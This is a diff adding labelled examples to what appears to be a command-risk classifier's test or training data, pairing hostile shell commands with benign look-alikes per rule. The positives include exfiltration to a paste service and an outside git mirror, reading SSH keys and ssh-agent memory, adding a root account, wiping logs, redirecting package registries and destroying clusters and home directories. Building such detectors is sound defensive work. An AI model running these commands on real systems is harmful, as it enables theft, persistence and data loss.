@@ -1172,9 +1172,11 @@ _ROUND6: dict[str, tuple[list[Example], list[Example]]] = {
         ["./proxy -autocert -laddr 0.0.0.0:443", "tailscale up --authkey tskey-abc --hostname x",
          "curl --socks5 198.51.100.9:1080 http://10.0.0.3/",
          "torsocks wget http://abcdefghij234567.onion/x",
-         "iptables -t nat -A OUTPUT -p tcp --dport 80 -j DNAT --to 10.0.0.5:8080"],
+         "iptables -t nat -A OUTPUT -p tcp --dport 80 -j DNAT --to 10.0.0.5:8080",
+         "ssh -N -L 0.0.0.0:3389:10.0.0.9:3389 jump@example.org",
+         "python3 neoreg.py -k pass -u http://x/tunnel.php"],
         ["curl -x socks5h://localhost:1080 https://example.org", "tailscale status",
-         "./agent --config agent.yaml", "iptables -L -n"]),
+         "./agent --config agent.yaml", "iptables -L -n", "ssh -L 8080:localhost:80 dev@example.org"]),
     "evasion-security-agent-removal": (
         ["dnf remove -y falcon-sensor", "/usr/local/aegis/aegis_quartz/uninstall_quartz.sh",
          "apt-get purge -y wazuh-agent osquery",
@@ -1183,9 +1185,11 @@ _ROUND6: dict[str, tuple[list[Example], list[Example]]] = {
     "escape-privesc-exploit": (
         ["./CVE-2021-4034", "cd /tmp && ./dirtypipe /usr/bin/su",
          "env -i GCONV_PATH=. pkexec", "bpftool prog loadall ./x.o /sys/fs/bpf/x",
-         "./hotpatch-inject --pid $(pgrep sshd) ./hook.so"],
+         "./hotpatch-inject --pid $(pgrep sshd) ./hook.so",
+         "python3 -c 'import ctypes; ctypes.CDLL(\"/dev/shm/x.so\")'"],
         ["GLIBC_TUNABLES=glibc.malloc.tcache_count=7 ./app", "bpftool prog show",
-         "pip-audit --ignore-vuln CVE-2023-1234", "./configure --prefix=/usr"]),
+         "pip-audit --ignore-vuln CVE-2023-1234", "./configure --prefix=/usr",
+         "python3 -c 'import ctypes; ctypes.CDLL(\"libc.so.6\")'"]),
     "cloud-share-or-open": (
         ["aws ec2 modify-image-attribute --image-id ami-1 --launch-permission 'Add=[{Group=all}]'",
          "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol all --cidr 0.0.0.0/0",
@@ -1198,8 +1202,10 @@ _ROUND6: dict[str, tuple[list[Example], list[Example]]] = {
     "cloud-persistence-backdoor": (
         ["aws iam create-access-key --user-name svc", "kubectl certificate approve node-csr-x",
          "aws ec2 modify-instance-attribute --instance-id i-1 --attribute userData --value file://u",
-         "gcloud iam service-accounts keys create k.json --iam-account sa@p.iam.gserviceaccount.com"],
+         "gcloud iam service-accounts keys create k.json --iam-account sa@p.iam.gserviceaccount.com",
+         "kubectl exec -it -n kube-system coredns-1 -- sh"],
         ["kubectl get csr", "aws iam list-access-keys", "aws ec2 describe-instances",
+         "kubectl exec -it web-1 -- sh",
          "gcloud iam service-accounts list"]),
     "cloud-recon-sensitive": (
         ["aws ec2 get-password-data --instance-id i-1", "aws cloudtrail lookup-events --max-results 5",
@@ -1219,18 +1225,51 @@ _ROUND6: dict[str, tuple[list[Example], list[Example]]] = {
                            "python3 -c \"b=[]\nfor _ in iter(int, 1): b.append(bytearray(10**7))\""],
                           ["dd if=/dev/zero of=img bs=1M count=512",
                            "python3 -c \"for line in iter(f.readline, ''): out.append(line)\""]),
-    "cred-hunting": (["grep -rl 'BEGIN.*PRIVATE' /etc", "rg -l 'BEGIN (RSA|EC) PRIVATE' ~"],
-                     ["grep -n 'BEGIN CERTIFICATE' cert.pem"]),
+    "cred-hunting": (["grep -rl 'BEGIN.*PRIVATE' /etc", "rg -l 'BEGIN (RSA|EC) PRIVATE' ~",
+                      "grep -rn 'eyJhbGciOi' /var/lib", "grep -r 'AKIA' ~/projects"],
+                     ["grep -n 'BEGIN CERTIFICATE' cert.pem", "grep -rn 'askia' src"]),
     "cred-find-secrets": (["find /home -type d -name .kube"], ["find . -name .gitignore"]),
     "cred-service-account-token": (["ls /var/lib/kubelet/pods/*/volumes/*secret*"],
                                    ["ls /var/lib/kubelet/pods"]),
-    "tunnel-tool": (["gs-netcat -s s3cret -l"], ["netcat -h"]),
+    "tunnel-tool": (["gs-netcat -s s3cret -l", "socketxp connect http://localhost:3000"],
+                    ["netcat -h"]),
     "evasion-clear-history": (["mv ~/.zsh_history /dev/shm/z"], ["mv notes.txt notes_history.txt"]),
     "mining-tuning": (["sysctl -w kernel.nmi_watchdog=0"], ["sysctl kernel.nmi_watchdog"]),
     "tunnel-offensive-tooling": (["./merlin-agent -url https://203.0.113.5"], ["./agent -url https://ci"]),
     "discovery-scanner": (["pnscan 10.0.0.0/16 22"], ["pnpm scan"]),
 }
-for _extra in (_MORE, _VARIANTS, _GTFO, _ROUND6):
+_ROUND6B: dict[str, tuple[list[Example], list[Example]]] = {
+    "cred-local-secret-stores": (
+        ["cat /etc/samba/smb.conf /etc/ppp/chap-secrets", "gpg --armor --export-secret-keys me@x.org",
+         "for p in $(pgrep ssh-agent); do cat /proc/$p/mem; done"],
+        ["cat /etc/mysql/my.cnf", "gpg --armor --export me@x.org",
+         "cat /proc/$(pidof keepassxc)/maps"]),
+    "supply-chain-redirect": (
+        ["echo 'deb [trusted=yes] https://repo.example.net/ ./' | sudo tee /etc/apt/sources.list.d/x.list",
+         "pip config set global.extra-index-url https://mirror.example.net/simple",
+         "npm config set registry http://203.0.113.4:4873/", "pip install --trusted-host 203.0.113.4 pkg"],
+        ["pip config list", "npm config set registry https://registry.npmjs.org/",
+         "pip install -i https://pypi.org/simple requests"]),
+    "destroy-repository-or-cluster": (
+        ["git push origin --delete master", "kubectl delete ns staging --grace-period=0 --force",
+         "docker volume prune -af", "docker system prune --volumes -f", "rm -rf ~/.[!.]* ~/*"],
+        ["git push origin --delete feature/x", "kubectl delete pod web-1", "docker system prune -f",
+         "docker volume prune -f", "rm -rf ~/tmp/build"]),
+    "evasion-decode-exec-code": (["perl -e 'eval unpack(\"u\", $x)'"],
+                                 ["perl -e 'print pack(\"H*\",\"6869\")'"]),
+    "evasion-disable-firewall": (["iptables -A INPUT -p tcp --dport 31337 -j ACCEPT"],
+                                 ["iptables -L INPUT"]),
+    "evasion-clear-logs": (["rm -f /var/mail/root",
+                            "find /var/log -name '*.log' -exec truncate -s0 {} \\;"],
+                           ["find /var/log -name '*.gz' -mtime +30 -print"]),
+    "exfil-git-push-url": (["git remote add m https://gitlab.com/x/y.git; git push m --mirror"],
+                           ["git push origin --all"]),
+    "cred-ssh-private-key": (["cat ~/.ssh/id_*"], ["cat ~/.ssh/known_hosts"]),
+    "persist-create-account": (["echo 'x:x:0:0::/:/bin/sh' >> /mnt/root/etc/passwd",
+                                "echo pw | passwd --stdin bob"], ["passwd --help"]),
+    "exfil-paste-service": (["curl -T dump.tgz https://paste.rs/"], ["curl https://docs.rs/"]),
+}
+for _extra in (_MORE, _VARIANTS, _GTFO, _ROUND6, _ROUND6B):
     for _rid, (_pos, _neg) in _extra.items():
         _had = EXAMPLES.get(_rid, ([], []))
         EXAMPLES[_rid] = ([*_had[0], *_pos], [*_had[1], *_neg])
